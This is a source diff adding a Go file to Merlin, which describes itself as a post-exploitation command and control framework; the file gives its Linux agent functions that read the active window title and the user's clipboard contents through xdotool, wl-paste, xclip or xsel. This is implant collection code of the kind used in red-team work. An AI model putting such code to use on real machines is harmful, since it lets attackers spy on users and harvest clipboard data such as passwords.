@@ -0,0 +1,55 @@
+//go:build !windows && !darwin
+// +build !windows,!darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+)
+
+// foregroundWindow returns the X11 active window title using xdotool, it requires the DISPLAY of the user's session
+func foregroundWindow() (string, error) {
+	if os.Getenv("DISPLAY") == "" {
+		return "", fmt.Errorf("the DISPLAY environment variable is not set")
+	}
+	out, err := exec.Command("xdotool", "getactivewindow", "getwindowname").Output()
+	return strings.TrimSpace(string(out)), err
+}
+
+// clipboardText returns the clipboard text from the first available of wl-paste, xclip, or xsel
+func clipboardText() (string, error) {
+	tools := [][]string{
+		{"wl-paste", "--no-newline"},
+		{"xclip", "-o", "-selection", "clipboard"},
+		{"xsel", "--clipboard", "--output"},
+	}
+	for _, tool := range tools {
+		if _, err := exec.LookPath(tool[0]); err != nil {
+			continue
+		}
+		out, err := exec.Command(tool[0], tool[1:]...).Output()
+		return string(out), err
+	}
+	return "", fmt.Errorf("wl-paste, xclip, or xsel is required to read the clipboard")
+}